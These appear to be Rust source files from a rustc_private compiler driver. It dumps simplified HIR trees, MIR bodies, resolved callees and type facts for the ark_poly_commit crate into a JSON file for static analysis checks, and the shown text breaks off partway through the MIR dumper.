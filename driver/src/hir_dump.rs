//! Simplified HIR tree per function (closures inline), with resolved callees and types.
use crate::json::J;
use crate::mir_dump::{ident_fields, path_of, span_str, ty_str};
use rustc_hir as hir;
use rustc_hir::def::{DefKind, Res};
use rustc_hir::{Expr, ExprKind, Pat, PatKind, QPath, StmtKind};
use rustc_middle::ty::{TyCtxt, TypeckResults};
use rustc_span::def_id::LocalDefId;

struct Cx<'tcx> {
    tcx: TyCtxt<'tcx>,
    tr: &'tcx TypeckResults<'tcx>,
}

fn hid(h: hir::HirId) -> J {
    J::Int(h.local_id.as_u32() as i128)
}

impl<'tcx> Cx<'tcx> {
    fn res(&self, r: Res) -> Vec<(&'static str, J)> {
        match r {
            Res::Local(h) => vec![
                ("res", J::s("local")),
                ("name", J::s(self.tcx.hir_name(h).to_string())),
                ("hid", hid(h)),
            ],
            Res::Def(kind, did) => {
                let mut v = vec![
                    ("res", J::s("def")),
                    ("dk", J::s(format!("{:?}", kind))),
                    ("def", J::s(path_of(self.tcx, did))),
                ];
                if let DefKind::Ctor(..) = kind {
                    if let Some(p) = self.tcx.opt_parent(did) {
                        v.push(("ctor_of", J::s(path_of(self.tcx, p))));
                    }
                }
                v
            }
            Res::SelfCtor(_) => vec![("res", J::s("selfctor"))],
            other => vec![("res", J::s("other")), ("dbg", J::s(format!("{:?}", other)))],
        }
    }

    fn qpath(&self, q: &QPath<'tcx>, h: hir::HirId) -> Vec<(&'static str, J)> {
        self.res(self.tr.qpath_res(q, h))
    }

    fn pat(&self, p: &Pat<'tcx>) -> J {
        match &p.kind {
            PatKind::Wild | PatKind::Missing | PatKind::Never => J::Obj(vec![("k", J::s("wild"))]),
            PatKind::Binding(_, h, ident, sub) => {
                let mut v = vec![
                    ("k", J::s("bind")),
                    ("name", J::s(ident.name.to_string())),
                    ("hid", hid(*h)),
                    ("ty", J::s(ty_str(self.tr.pat_ty(p)))),
                ];
                if let Some(s) = sub {
                    v.push(("sub", self.pat(s)));
                }
                J::Obj(v)
            }
            PatKind::Struct(q, fields, _) => {
                let mut v = vec![("k", J::s("struct"))];
                v.extend(self.qpath(q, p.hir_id));
                v.push((
                    "fields",
                    J::Arr(
                        fields
                            .iter()
                            .map(|f| J::Arr(vec![J::s(f.ident.name.to_string()), self.pat(f.pat)]))
                            .collect(),
                    ),
                ));
                J::Obj(v)
            }
            PatKind::TupleStruct(q, pats, _) => {
                let mut v = vec![("k", J::s("tuplestruct"))];
                v.extend(self.qpath(q, p.hir_id));
                v.push(("pats", J::Arr(pats.iter().map(|x| self.pat(x)).collect())));
                J::Obj(v)
            }
            PatKind::Or(pats) => J::Obj(vec![
                ("k", J::s("or")),
                ("pats", J::Arr(pats.iter().map(|x| self.pat(x)).collect())),
            ]),
            PatKind::Tuple(pats, _) => J::Obj(vec![
                ("k", J::s("tuple")),
                ("pats", J::Arr(pats.iter().map(|x| self.pat(x)).collect())),
            ]),
            PatKind::Box(x) | PatKind::Deref(x) | PatKind::Ref(x, ..) => {
                J::Obj(vec![("k", J::s("ref")), ("pats", J::Arr(vec![self.pat(x)]))])
            }
            PatKind::Guard(x, e) => J::Obj(vec![
                ("k", J::s("guard")),
                ("pats", J::Arr(vec![self.pat(x)])),
                ("cond", self.expr(e)),
            ]),
            PatKind::Slice(a, m, b) => {
                let mut v: Vec<J> = a.iter().map(|x| self.pat(x)).collect();
                if let Some(m) = m {
                    v.push(self.pat(m));
                }
                v.extend(b.iter().map(|x| self.pat(x)));
                J::Obj(vec![("k", J::s("slice")), ("pats", J::Arr(v))])
            }
            PatKind::Expr(pe) => {
                let mut v = vec![("k", J::s("lit"))];
                if let hir::PatExprKind::Path(q) = &pe.kind {
                    v.extend(self.qpath(q, pe.hir_id));
                }
                J::Obj(v)
            }
            _ => J::Obj(vec![("k", J::s("otherpat"))]),
        }
    }

    fn block(&self, b: &hir::Block<'tcx>) -> J {
        let mut stmts = Vec::new();
        for st in b.stmts {
            match &st.kind {
                StmtKind::Let(l) => {
                    let mut v = vec![
                        ("k", J::s("let")),
                        ("pat", self.pat(l.pat)),
                        ("ln", J::Int(self.line(st.span))),
                    ];
                    if let Some(i) = l.init {
                        v.push(("init", self.expr(i)));
                    }
                    if let Some(e) = l.els {
                        v.push(("els", self.block(e)));
                    }
                    stmts.push(J::Obj(v));
                }
                StmtKind::Expr(e) | StmtKind::Semi(e) => {
                    let semi = matches!(st.kind, StmtKind::Semi(_));
                    stmts.push(J::Obj(vec![
                        ("k", J::s("stmt")),
                        ("semi", J::Bool(semi)),
                        ("e", self.expr(e)),
                    ]));
                }
                StmtKind::Item(_) => {}
            }
        }
        let mut v = vec![("k", J::s("block")), ("stmts", J::Arr(stmts))];
        if let Some(e) = b.expr {
            v.push(("e", self.expr(e)));
        }
        J::Obj(v)
    }

    fn line(&self, sp: rustc_span::Span) -> i128 {
        let sm = self.tcx.sess.source_map();
        let sp = if sp.from_expansion() { sp.source_callsite() } else { sp };
        sm.lookup_char_pos(sp.lo()).line as i128
    }

    fn exprs(&self, es: &[Expr<'tcx>]) -> J {
        J::Arr(es.iter().map(|e| self.expr(e)).collect())
    }

    fn expr(&self, e: &Expr<'tcx>) -> J {
        let mut v: Vec<(&'static str, J)> = Vec::new();
        let ty = self.tr.expr_ty_opt(e).map(ty_str);
        match &e.kind {
            ExprKind::Call(f, args) => {
                v.push(("k", J::s("call")));
                // resolved callee if the callee is a path
                if let ExprKind::Path(q) = &f.kind {
                    let r = self.tr.qpath_res(q, f.hir_id);
                    v.extend(self.res(r));
                } else {
                    v.push(("f", self.expr(f)));
                }
                v.push(("args", self.exprs(args)));
                v.push(("sp", J::s(span_str(self.tcx, e.span))));
            }
            ExprKind::MethodCall(seg, recv, args, sp) => {
                v.push(("k", J::s("mcall")));
                v.push(("m", J::s(seg.ident.name.to_string())));
                if let Some(d) = self.tr.type_dependent_def_id(e.hir_id) {
                    v.push(("def", J::s(path_of(self.tcx, d))));
                    if let Some(tr) = self.tcx.trait_of_assoc(d) {
                        v.push(("trait", J::s(path_of(self.tcx, tr))));
                    }
                }
                v.push(("recv", self.expr(recv)));
                v.push(("args", self.exprs(args)));
                v.push(("sp", J::s(span_str(self.tcx, *sp))));
            }
            ExprKind::Tup(es) => {
                v.push(("k", J::s("tup")));
                v.push(("args", self.exprs(es)));
            }
            ExprKind::Array(es) => {
                v.push(("k", J::s("array")));
                v.push(("args", self.exprs(es)));
            }
            ExprKind::Binary(op, a, b) => {
                v.push(("k", J::s("binary")));
                v.push(("op", J::s(format!("{:?}", op.node))));
                if let Some(d) = self.tr.type_dependent_def_id(e.hir_id) {
                    v.push(("def", J::s(path_of(self.tcx, d))));
                }
                v.push(("args", J::Arr(vec![self.expr(a), self.expr(b)])));
            }
            ExprKind::Unary(op, a) => {
                v.push(("k", J::s("unary")));
                v.push(("op", J::s(format!("{:?}", op))));
                if let Some(d) = self.tr.type_dependent_def_id(e.hir_id) {
                    v.push(("def", J::s(path_of(self.tcx, d))));
                }
                v.push(("args", J::Arr(vec![self.expr(a)])));
            }
            ExprKind::Lit(l) => {
                v.push(("k", J::s("lit")));
                v.push(("v", J::s(format!("{:?}", l.node))));
            }
            ExprKind::Cast(a, _) | ExprKind::Type(a, _) => {
                v.push(("k", J::s("cast")));
                v.push(("args", J::Arr(vec![self.expr(a)])));
            }
            ExprKind::DropTemps(a) | ExprKind::Use(a, _) => return self.expr(a),
            ExprKind::Let(l) => {
                v.push(("k", J::s("letexpr")));
                v.push(("pat", self.pat(l.pat)));
                v.push(("init", self.expr(l.init)));
            }
            ExprKind::If(c, t, el) => {
                v.push(("k", J::s("if")));
                v.push(("cond", self.expr(c)));
                v.push(("then", self.expr(t)));
                if let Some(el) = el {
                    v.push(("else", self.expr(el)));
                }
            }
            ExprKind::Loop(b, _, src, _) => {
                v.push(("k", J::s("loop")));
                v.push(("src", J::s(format!("{:?}", src))));
                v.push(("body", self.block(b)));
            }
            ExprKind::Match(scrut, arms, src) => {
                v.push(("k", J::s("match")));
                let s = match src {
                    hir::MatchSource::Normal | hir::MatchSource::Postfix => "normal",
                    hir::MatchSource::ForLoopDesugar => "for",
                    hir::MatchSource::TryDesugar(_) => "try",
                    hir::MatchSource::AwaitDesugar => "await",
                    hir::MatchSource::FormatArgs => "fmt",
                };
                v.push(("src", J::s(s)));
                v.push(("scrut", self.expr(scrut)));
                let mut av = Vec::new();
                for a in *arms {
                    let mut x = vec![("pat", self.pat(a.pat)), ("body", self.expr(a.body))];
                    if let Some(g) = a.guard {
                        x.push(("guard", self.expr(g)));
                    }
                    av.push(J::Obj(x));
                }
                v.push(("arms", J::Arr(av)));
            }
            ExprKind::Closure(c) => {
                v.push(("k", J::s("closure")));
                v.push(("def", J::s(path_of(self.tcx, c.def_id.to_def_id()))));
                let body = self.tcx.hir_body(c.body);
                v.push(("params", J::Arr(body.params.iter().map(|p| self.pat(p.pat)).collect())));
                v.push(("body", self.expr(body.value)));
            }
            ExprKind::Block(b, _) => return self.block_with(b, ty, e),
            ExprKind::Assign(l, r, _) => {
                v.push(("k", J::s("assign")));
                v.push(("args", J::Arr(vec![self.expr(l), self.expr(r)])));
            }
            ExprKind::AssignOp(op, l, r) => {
                v.push(("k", J::s("assignop")));
                v.push(("op", J::s(format!("{:?}", op.node))));
                if let Some(d) = self.tr.type_dependent_def_id(e.hir_id) {
                    v.push(("def", J::s(path_of(self.tcx, d))));
                }
                v.push(("args", J::Arr(vec![self.expr(l), self.expr(r)])));
            }
            ExprKind::Field(b, ident) => {
                v.push(("k", J::s("field")));
                v.push(("name", J::s(ident.name.to_string())));
                if let Some(bt) = self.tr.expr_ty_adjusted_opt(b) {
                    if let rustc_middle::ty::Adt(ad, _) = bt.peel_refs().kind() {
                        v.push(("adt", J::s(path_of(self.tcx, ad.did()))));
                    }
                }
                v.push(("args", J::Arr(vec![self.expr(b)])));
            }
            ExprKind::Index(a, b, _) => {
                v.push(("k", J::s("index")));
                v.push(("args", J::Arr(vec![self.expr(a), self.expr(b)])));
            }
            ExprKind::Path(q) => {
                v.push(("k", J::s("path")));
                v.extend(self.qpath(q, e.hir_id));
            }
            ExprKind::AddrOf(_, m, a) => {
                v.push(("k", J::s("addrof")));
                v.push(("mut", J::Bool(m.is_mut())));
                v.push(("args", J::Arr(vec![self.expr(a)])));
            }
            ExprKind::Break(_, a) => {
                v.push(("k", J::s("break")));
                if let Some(a) = a {
                    v.push(("args", J::Arr(vec![self.expr(a)])));
                }
            }
            ExprKind::Continue(_) => v.push(("k", J::s("continue"))),
            ExprKind::Ret(a) => {
                v.push(("k", J::s("ret")));
                if let Some(a) = a {
                    v.push(("args", J::Arr(vec![self.expr(a)])));
                }
            }
            ExprKind::Struct(q, fields, tail) => {
                v.push(("k", J::s("struct")));
                v.extend(self.qpath(q, e.hir_id));
                v.push((
                    "fields",
                    J::Arr(
                        fields
                            .iter()
                            .map(|f| J::Arr(vec![J::s(f.ident.name.to_string()), self.expr(f.expr)]))
                            .collect(),
                    ),
                ));
                if let hir::StructTailExpr::Base(b) = tail {
                    v.push(("base", self.expr(b)));
                }
            }
            ExprKind::Repeat(a, _) => {
                v.push(("k", J::s("repeat")));
                v.push(("args", J::Arr(vec![self.expr(a)])));
            }
            ExprKind::ConstBlock(_) => v.push(("k", J::s("constblock"))),
            other => {
                v.push(("k", J::s("other")));
                let d = format!("{:?}", other);
                v.push(("dbg", J::s(d.chars().take(40).collect::<String>())));
            }
        }
        if let Some(t) = ty {
            v.push(("ty", J::s(t)));
        }
        v.push(("ln", J::Int(self.line(e.span))));
        if e.span.from_expansion() {
            let ed = e.span.ctxt().outer_expn_data();
            v.push(("macro", J::s(format!("{:?}", ed.kind))));
        }
        J::Obj(v)
    }

    fn block_with(&self, b: &hir::Block<'tcx>, ty: Option<String>, _e: &Expr<'tcx>) -> J {
        let mut j = self.block(b);
        if let (J::Obj(v), Some(t)) = (&mut j, ty) {
            v.push(("ty", J::s(t)));
        }
        j
    }
}

pub fn dump_body<'tcx>(tcx: TyCtxt<'tcx>, ldid: LocalDefId) -> J {
    let kind = tcx.def_kind(ldid);
    if !matches!(kind, DefKind::Fn | DefKind::AssocFn) {
        return J::Null;
    }
    let tr = tcx.typeck(ldid);
    let cx = Cx { tcx, tr };
    let body = tcx.hir_body_owned_by(ldid);
    let mut v = ident_fields(tcx, ldid.to_def_id());
    v.push(("params", J::Arr(body.params.iter().map(|p| cx.pat(p.pat)).collect())));
    let sig = tcx.fn_sig(ldid.to_def_id()).skip_binder().skip_binder();
    v.push(("inputs", J::Arr(sig.inputs().iter().map(|t| J::s(ty_str(*t))).collect())));
    v.push(("output", J::s(ty_str(sig.output()))));
    v.push(("body", cx.expr(body.value)));
    J::Obj(v)
}
