//! pcv-driver: rustc_private fact extractor for the poly-commit static checks.
//!
//! Used as RUSTC_WORKSPACE_WRAPPER. For the crate named in PCV_CRATE (default
//! `ark_poly_commit`) it dumps, after analysis, one JSON fact file to PCV_OUT:
//! MIR of every fn / assoc fn / closure body with resolved callees, a simplified
//! HIR tree per body, ADT shapes and impl tables. Every other crate is compiled
//! normally.
#![feature(rustc_private)]
#![allow(clippy::all)]

extern crate rustc_abi;
extern crate rustc_ast;
extern crate rustc_data_structures;
extern crate rustc_driver;
extern crate rustc_hir;
extern crate rustc_index;
extern crate rustc_interface;
extern crate rustc_middle;
extern crate rustc_session;
extern crate rustc_span;
extern crate rustc_infer;
extern crate rustc_trait_selection;

mod hir_dump;
mod json;
mod mir_dump;
mod types_dump;

use json::J;
use rustc_driver::Compilation;
use rustc_hir::def::DefKind;
use rustc_interface::interface::Compiler;
use rustc_middle::ty::TyCtxt;

struct Cb {
    features: Vec<String>,
    out: String,
    nonce: String,
}

impl rustc_driver::Callbacks for Cb {
    fn after_analysis<'tcx>(&mut self, _c: &Compiler, tcx: TyCtxt<'tcx>) -> Compilation {
        let mut bodies = Vec::new();
        let mut hirs = Vec::new();
        for ldid in tcx.hir_body_owners() {
            let kind = tcx.def_kind(ldid);
            if !matches!(kind, DefKind::Fn | DefKind::AssocFn | DefKind::Closure) {
                continue;
            }
            bodies.push(mir_dump::dump_body(tcx, ldid));
            hirs.push(hir_dump::dump_body(tcx, ldid));
        }
        let (adts, impls, traits) = types_dump::dump(tcx);
        let features: Vec<J> = self.features.iter().map(|f| J::s(f.clone())).collect();
        let root = J::Obj(vec![
            ("nonce", J::s(self.nonce.clone())),
            ("crate", J::s(tcx.crate_name(rustc_span::def_id::LOCAL_CRATE).to_string())),
            ("features", J::Arr(features)),
            ("bodies", J::Arr(bodies)),
            ("hir", J::Arr(hirs)),
            ("adts", J::Arr(adts)),
            ("impls", J::Arr(impls)),
            ("traits", J::Arr(traits)),
        ]);
        let mut s = String::new();
        root.write(&mut s);
        let tmp = format!("{}.tmp.{}", self.out, std::process::id());
        std::fs::write(&tmp, s).expect("write facts");
        std::fs::rename(&tmp, &self.out).expect("rename facts");
        Compilation::Continue
    }
}

struct Noop;
impl rustc_driver::Callbacks for Noop {}

fn main() {
    let mut args: Vec<String> = std::env::args().collect();
    // RUSTC_WORKSPACE_WRAPPER: argv[1] is the path of the real rustc.
    if args.len() > 1 && (args[1].ends_with("rustc") || args[1].contains("/rustc")) {
        args.remove(1);
    }
    let want = std::env::var("PCV_CRATE").unwrap_or_else(|_| "ark_poly_commit".to_string());
    let mut crate_name = None;
    let mut is_test = false;
    let mut features = Vec::new();
    let mut i = 0;
    while i < args.len() {
        if args[i] == "--crate-name" && i + 1 < args.len() {
            crate_name = Some(args[i + 1].clone());
        }
        if args[i] == "--cfg" && i + 1 < args.len() && args[i + 1].starts_with("feature=") {
            features.push(args[i + 1]["feature=".len()..].trim_matches('"').to_string());
        }
        if args[i] == "--test" {
            is_test = true;
        }
        i += 1;
    }
    let out = std::env::var("PCV_OUT").ok();
    if crate_name.as_deref() == Some(want.as_str()) && !is_test && out.is_some() {
        let mut cb = Cb {
            features,
            out: out.unwrap(),
            nonce: std::env::var("PCV_NONCE").unwrap_or_default(),
        };
        rustc_driver::run_compiler(&args, &mut cb);
    } else {
        rustc_driver::run_compiler(&args, &mut Noop);
    }
}
