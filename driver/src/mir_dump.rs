use crate::json::J;
use rustc_hir::def::DefKind;
use rustc_middle::mir::{
    AggregateKind, BasicBlockData, Body, Const, Operand, Place, PlaceElem, Rvalue, StatementKind,
    TerminatorKind, UnwindAction,
};
use rustc_middle::ty::print::with_no_trimmed_paths;
use rustc_middle::ty::{self, Instance, Ty, TyCtxt, TypeVisitableExt, TypingEnv};
use rustc_span::def_id::{DefId, LocalDefId};
use rustc_span::Span;

pub fn path_of(tcx: TyCtxt<'_>, did: DefId) -> String {
    with_no_trimmed_paths!(tcx.def_path_str(did))
}

pub fn ty_str(ty: Ty<'_>) -> String {
    with_no_trimmed_paths!(format!("{}", ty))
}

pub fn span_str(tcx: TyCtxt<'_>, sp: Span) -> String {
    let sm = tcx.sess.source_map();
    let lo = sm.lookup_char_pos(sp.lo());
    let hi = sm.lookup_char_pos(sp.hi());
    let file = match &lo.file.name {
        rustc_span::FileName::Real(r) => match r.local_path() {
            Some(p) => p.to_string_lossy().to_string(),
            None => format!("{:?}", r),
        },
        other => format!("{:?}", other),
    };
    format!("{}:{}:{}-{}:{}", file, lo.line, lo.col.0 + 1, hi.line, hi.col.0 + 1)
}

/// Identity facts shared by MIR and HIR dumps.
pub fn ident_fields(tcx: TyCtxt<'_>, did: DefId) -> Vec<(&'static str, J)> {
    let mut v = vec![("id", J::s(path_of(tcx, did)))];
    let kind = tcx.def_kind(did);
    v.push(("kind", J::s(format!("{:?}", kind))));
    v.push(("name", J::opt_s(tcx.opt_item_name(did).map(|s| s.to_string()))));
    let root = tcx.typeck_root_def_id(did);
    v.push(("root", J::s(path_of(tcx, root))));
    if root != did {
        if let Some(p) = tcx.opt_parent(did) {
            v.push(("parent", J::s(path_of(tcx, p))));
        }
    }
    // impl / trait container of the root fn
    let mut impl_trait = J::Null;
    let mut impl_self = J::Null;
    let mut impl_self_adt = J::Null;
    let mut in_trait = J::Null;
    let mut impl_id = J::Null;
    if matches!(tcx.def_kind(root), DefKind::AssocFn) {
        if let Some(imp) = tcx.impl_of_assoc(root) {
            impl_id = J::s(path_of(tcx, imp));
            if let Some(tr) = tcx.impl_opt_trait_ref(imp) {
                let tr = tr.skip_binder();
                impl_trait = J::s(path_of(tcx, tr.def_id));
            }
            let sty = tcx.type_of(imp).skip_binder();
            impl_self = J::s(ty_str(sty));
            if let ty::Adt(ad, _) = sty.kind() {
                impl_self_adt = J::s(path_of(tcx, ad.did()));
            }
        } else if let Some(tr) = tcx.trait_of_assoc(root) {
            in_trait = J::s(path_of(tcx, tr));
        }
    }
    v.push(("impl_id", impl_id));
    v.push(("impl_trait", impl_trait));
    v.push(("impl_self", impl_self));
    v.push(("impl_self_adt", impl_self_adt));
    v.push(("in_trait", in_trait));
    if matches!(kind, DefKind::Fn | DefKind::AssocFn) {
        v.push(("vis", J::s(format!("{:?}", tcx.visibility(did)))));
    }
    v.push(("span", J::s(span_str(tcx, tcx.def_span(did)))));
    v
}

fn adt_of<'tcx>(ty: Ty<'tcx>) -> Option<DefId> {
    match ty.peel_refs().kind() {
        ty::Adt(ad, _) => Some(ad.did()),
        _ => None,
    }
}

/// Could a value of this type carry a mutable borrow (so that handing it to an
/// unknown callee lets the callee write through it)? Unknown => yes.
fn may_hold_mut<'tcx>(tcx: TyCtxt<'tcx>, env: TypingEnv<'tcx>, ty: Ty<'tcx>, depth: u32) -> bool {
    if depth > 6 {
        return true;
    }
    match ty.kind() {
        ty::Bool | ty::Char | ty::Int(_) | ty::Uint(_) | ty::Float(_) | ty::Str | ty::Never => false,
        ty::FnDef(..) | ty::FnPtr(..) => false,
        // nothing can be written through a shared reference, whatever it points to (`&&mut T` only reborrows as
        // `&T`), short of interior mutability, which the analysis assumes absent (checked for the crate's own types)
        ty::Ref(_, _, m) => m.is_mut(),
        ty::RawPtr(..) => true,
        ty::Slice(t) | ty::Array(t, _) => may_hold_mut(tcx, env, *t, depth + 1),
        ty::Tuple(ts) => ts.iter().any(|t| may_hold_mut(tcx, env, t, depth + 1)),
        ty::Adt(_, args) => {
            if args.regions().next().is_some() {
                return true;
            }
            args.types().any(|t| may_hold_mut(tcx, env, t, depth + 1))
        }
        ty::Closure(_, args) => args
            .as_closure()
            .upvar_tys()
            .iter()
            .any(|t| may_hold_mut(tcx, env, t, depth + 1)),
        ty::Param(_) | ty::Alias(..) => !tcx.type_is_copy_modulo_regions(env, ty),
        _ => true,
    }
}

struct Cx<'a, 'tcx> {
    tcx: TyCtxt<'tcx>,
    body: &'a Body<'tcx>,
    env: TypingEnv<'tcx>,
}

impl<'a, 'tcx> Cx<'a, 'tcx> {
    fn place(&self, p: &Place<'tcx>) -> J {
        let mut projs = Vec::new();
        for (base, elem) in p.iter_projections() {
            let bty = base.ty(self.body, self.tcx);
            let j = match elem {
                PlaceElem::Deref => J::s("*"),
                PlaceElem::Field(f, fty) => {
                    let mut name = J::Null;
                    let mut adt = J::Null;
                    if let ty::Adt(ad, _) = bty.ty.kind() {
                        adt = J::s(path_of(self.tcx, ad.did()));
                        let vi = bty.variant_index.unwrap_or(rustc_abi::FIRST_VARIANT);
                        if ad.is_enum() || ad.is_struct() || ad.is_union() {
                            if let Some(v) = ad.variants().get(vi) {
                                if let Some(fd) = v.fields.get(f) {
                                    name = J::s(fd.name.to_string());
                                }
                            }
                        }
                    }
                    J::Obj(vec![
                        ("f", J::Int(f.as_usize() as i128)),
                        ("n", name),
                        ("adt", adt),
                        ("ty", J::s(ty_str(fty))),
                    ])
                }
                PlaceElem::Index(l) => J::Obj(vec![("idx", J::Int(l.as_usize() as i128))]),
                PlaceElem::ConstantIndex { offset, from_end, .. } => J::Obj(vec![
                    ("cidx", J::Int(offset as i128)),
                    ("from_end", J::Bool(from_end)),
                ]),
                PlaceElem::Subslice { .. } => J::s("subslice"),
                PlaceElem::Downcast(name, vi) => J::Obj(vec![
                    ("dc", J::opt_s(name.map(|s| s.to_string()))),
                    ("vi", J::Int(vi.as_usize() as i128)),
                ]),
                PlaceElem::OpaqueCast(_) => J::s("opaque"),
                PlaceElem::UnwrapUnsafeBinder(_) => J::s("unbinder"),
            };
            projs.push(j);
        }
        J::Obj(vec![("l", J::Int(p.local.as_usize() as i128)), ("p", J::Arr(projs))])
    }

    fn operand(&self, o: &Operand<'tcx>) -> J {
        match o {
            Operand::Copy(p) => J::Obj(vec![("k", J::s("copy")), ("pl", self.place(p))]),
            Operand::Move(p) => J::Obj(vec![("k", J::s("move")), ("pl", self.place(p))]),
            Operand::Constant(c) => {
                let ty = c.const_.ty();
                let mut v = vec![("k", J::s("const")), ("ty", J::s(ty_str(ty)))];
                match ty.kind() {
                    ty::FnDef(did, _) => v.push(("fn", J::s(path_of(self.tcx, *did)))),
                    _ => {}
                }
                if let Some(sc) = c.const_.try_eval_scalar_int(self.tcx, self.env) {
                    let sz = sc.size();
                    if ty.is_integral() || ty.is_bool() || ty.is_char() {
                        let bits = sc.to_bits(sz);
                        let val: i128 = if ty.is_signed() {
                            sc.to_int(sz)
                        } else {
                            bits as i128
                        };
                        v.push(("val", J::Int(val)));
                    }
                }
                match c.const_ {
                    Const::Unevaluated(uv, _) => {
                        v.push(("def", J::s(path_of(self.tcx, uv.def))));
                    }
                    _ => {}
                }
                J::Obj(v)
            }
            #[allow(unreachable_patterns)]
            _ => J::Obj(vec![("k", J::s("runtime_checks"))]),
        }
    }

    fn rvalue(&self, rv: &Rvalue<'tcx>) -> J {
        match rv {
            Rvalue::Use(op, ..) => J::Obj(vec![("k", J::s("use")), ("ops", J::Arr(vec![self.operand(op)]))]),
            Rvalue::Repeat(op, _) => {
                J::Obj(vec![("k", J::s("repeat")), ("ops", J::Arr(vec![self.operand(op)]))])
            }
            Rvalue::Ref(_, bk, p) => J::Obj(vec![
                ("k", J::s("ref")),
                ("mut", J::Bool(matches!(bk, rustc_middle::mir::BorrowKind::Mut { .. }))),
                ("pl", self.place(p)),
            ]),
            Rvalue::ThreadLocalRef(d) => {
                J::Obj(vec![("k", J::s("tls")), ("def", J::s(path_of(self.tcx, *d)))])
            }
            Rvalue::RawPtr(_, p) => J::Obj(vec![("k", J::s("rawptr")), ("pl", self.place(p))]),
            Rvalue::Cast(ck, op, ty) => J::Obj(vec![
                ("k", J::s("cast")),
                ("ck", J::s(format!("{:?}", ck))),
                ("ty", J::s(ty_str(*ty))),
                ("ops", J::Arr(vec![self.operand(op)])),
            ]),
            Rvalue::BinaryOp(op, b) => J::Obj(vec![
                ("k", J::s("binop")),
                ("op", J::s(format!("{:?}", op))),
                ("ops", J::Arr(vec![self.operand(&b.0), self.operand(&b.1)])),
            ]),
            Rvalue::UnaryOp(op, o) => J::Obj(vec![
                ("k", J::s("unop")),
                ("op", J::s(format!("{:?}", op))),
                ("ops", J::Arr(vec![self.operand(o)])),
            ]),
            Rvalue::Discriminant(p) => J::Obj(vec![("k", J::s("discr")), ("pl", self.place(p))]),
            Rvalue::Aggregate(ak, ops) => {
                let mut v = vec![("k", J::s("agg"))];
                match &**ak {
                    AggregateKind::Array(_) => v.push(("ak", J::s("array"))),
                    AggregateKind::Tuple => v.push(("ak", J::s("tuple"))),
                    AggregateKind::Adt(did, vi, _, _, _) => {
                        v.push(("ak", J::s("adt")));
                        v.push(("adt", J::s(path_of(self.tcx, *did))));
                        let ad = self.tcx.adt_def(*did);
                        let var = ad.variant(*vi);
                        v.push(("variant", J::s(var.name.to_string())));
                        v.push((
                            "fields",
                            J::Arr(var.fields.iter().map(|f| J::s(f.name.to_string())).collect()),
                        ));
                    }
                    AggregateKind::Closure(did, _) => {
                        v.push(("ak", J::s("closure")));
                        v.push(("closure", J::s(path_of(self.tcx, *did))));
                    }
                    AggregateKind::Coroutine(did, _) | AggregateKind::CoroutineClosure(did, _) => {
                        v.push(("ak", J::s("coroutine")));
                        v.push(("closure", J::s(path_of(self.tcx, *did))));
                    }
                    AggregateKind::RawPtr(..) => v.push(("ak", J::s("rawptr"))),
                }
                v.push(("ops", J::Arr(ops.iter().map(|o| self.operand(o)).collect())));
                J::Obj(v)
            }
            Rvalue::CopyForDeref(p) => J::Obj(vec![
                ("k", J::s("use")),
                ("ops", J::Arr(vec![J::Obj(vec![("k", J::s("copy")), ("pl", self.place(p))])])),
            ]),
            #[allow(unreachable_patterns)]
            other => J::Obj(vec![("k", J::s("other")), ("dbg", J::s(format!("{:?}", other)))]),
        }
    }

    fn unwind(&self, u: &UnwindAction) -> J {
        match u {
            UnwindAction::Cleanup(bb) => J::Int(bb.as_usize() as i128),
            _ => J::Null,
        }
    }

    fn callee(&self, func: &Operand<'tcx>) -> Vec<(&'static str, J)> {
        let mut v = Vec::new();
        let fty = func.ty(self.body, self.tcx);
        match fty.kind() {
            ty::FnDef(did, args) => {
                v.push(("callee", J::s(path_of(self.tcx, *did))));
                v.push(("callee_local", J::Bool(did.is_local())));
                v.push(("callee_args", J::s(with_no_trimmed_paths!(format!("{:?}", args)))));
                if did.is_local() {
                    let generics = self.tcx.generics_of(*did);
                    let mut subst = Vec::new();
                    for (i, a) in args.iter().enumerate() {
                        if let Some(t) = a.as_type() {
                            if i < generics.count() {
                                let gp = generics.param_at(i, self.tcx);
                                subst.push(J::Arr(vec![J::s(gp.name.to_string()), J::s(ty_str(t))]));
                            }
                        }
                    }
                    v.push(("subst", J::Arr(subst)));
                }
                if let Some(tr) = self.tcx.trait_of_assoc(*did) {
                    v.push(("callee_trait", J::s(path_of(self.tcx, tr))));
                    if let Some(a0) = args.types().next() {
                        v.push(("self_ty", J::s(ty_str(a0))));
                        if let Some(ad) = adt_of(a0) {
                            v.push(("self_adt", J::s(path_of(self.tcx, ad))));
                        }
                        if let ty::Closure(cd, _) = a0.peel_refs().kind() {
                            v.push(("self_closure", J::s(path_of(self.tcx, *cd))));
                        }
                    }
                } else if let Some(imp) = self.tcx.impl_of_assoc(*did) {
                    let sty = self.tcx.type_of(imp).skip_binder();
                    if let Some(ad) = adt_of(sty) {
                        v.push(("self_adt", J::s(path_of(self.tcx, ad))));
                    }
                }
                let kind = self.tcx.def_kind(*did);
                if matches!(kind, DefKind::Fn | DefKind::AssocFn) {
                    if let Ok(Some(inst)) = Instance::try_resolve(self.tcx, self.env, *did, args) {
                        let rd = inst.def_id();
                        if rd != *did {
                            v.push(("resolved", J::s(path_of(self.tcx, rd))));
                            v.push(("resolved_local", J::Bool(rd.is_local())));
                        }
                    }
                } else {
                    v.push(("ctor", J::Bool(true)));
                }
            }
            other => {
                v.push(("callee", J::Null));
                v.push(("callee_ty", J::s(format!("{:?}", other))));
            }
        }
        v
    }

    fn block(&self, bb: &BasicBlockData<'tcx>) -> J {
        let mut stmts = Vec::new();
        for st in &bb.statements {
            match &st.kind {
                StatementKind::Assign(b) => {
                    let (pl, rv) = &**b;
                    stmts.push(J::Obj(vec![
                        ("dst", self.place(pl)),
                        ("rv", self.rvalue(rv)),
                        ("exp", J::Bool(st.source_info.span.from_expansion())),
                        ("line", J::Int(self.line(st.source_info.span))),
                    ]));
                }
                StatementKind::SetDiscriminant { place, variant_index } => {
                    stmts.push(J::Obj(vec![
                        ("dst", self.place(place)),
                        (
                            "rv",
                            J::Obj(vec![
                                ("k", J::s("setdiscr")),
                                ("vi", J::Int(variant_index.as_usize() as i128)),
                            ]),
                        ),
                    ]));
                }
                _ => {}
            }
        }
        let term = bb.terminator();
        let sp = term.source_info.span;
        let mut t: Vec<(&'static str, J)> = Vec::new();
        match &term.kind {
            TerminatorKind::Goto { target } => {
                t.push(("k", J::s("goto")));
                t.push(("t", J::Int(target.as_usize() as i128)));
            }
            TerminatorKind::SwitchInt { discr, targets } => {
                t.push(("k", J::s("switch")));
